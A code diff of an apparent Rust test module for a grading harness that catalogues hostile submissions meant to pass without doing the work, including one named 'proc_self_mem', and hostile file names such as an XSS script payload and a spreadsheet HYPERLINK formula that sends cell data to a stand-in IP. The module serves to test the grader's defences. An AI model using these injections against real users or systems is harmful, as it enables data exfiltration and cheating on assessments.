@@ -1,16 +1,17 @@
-//! What is handed in by somebody who wants a grade without the work: by the source, by the bundle, by a name.
+//! What somebody hands in who wants a grade without the work: hostile sources, bundles and names.
 //!
-//! Each does the tasks as well as the model does, so that nothing but the abuse can be why it does not pass.
+//! Each solves the tasks as the model solution does, so that only the abuse can be the reason why
+//! it does not pass.
 
-/// Stands at the beginning of `list`, before the rows are collected.
+/// A hostile source: code that runs at the start of `list`.
 pub(super) struct Trick {
-    /// What it is called in the table.
+    /// Its name in the table.
     pub(super) name: &'static str,
     /// Items beside the function.
     pub(super) beside: &'static str,
-    /// Statements in it.
+    /// Statements at the start of the function.
     pub(super) inside: &'static str,
-    /// The reason that the verdict has to name.
+    /// The reason that the verdict must name.
     pub(super) code: &'static str,
 }
 
@@ -18,7 +19,6 @@ const fn trick(name: &'static str, code: &'static str, beside: &'static str, ins
     Trick { name, beside, inside, code }
 }
 
-/// In the source.
 pub(super) const TRICKS: [Trick; 24] = [
     trick(
         "proc_self_mem",
@@ -93,7 +93,7 @@ pub(super) const TRICKS: [Trick; 24] = [
 ];
 
 impl Trick {
-    /// `required.rs` with it.
+    /// The text of `required.rs`.
     pub(super) fn source(&self) -> String {
         format!(
             "use crate::task::{{Row, Source}};\n{}\n\npub fn list(source: Source) -> Vec<Row> {{\n    {}\n    \
@@ -104,7 +104,7 @@ impl Trick {
     }
 }
 
-/// Names that want to be something else where they are shown.
+/// Names that are an attack on whatever shows them.
 pub(super) const NAMES: [(&str, &str); 5] = [
     ("html_name", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
     ("formula_name", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"grades\")"),
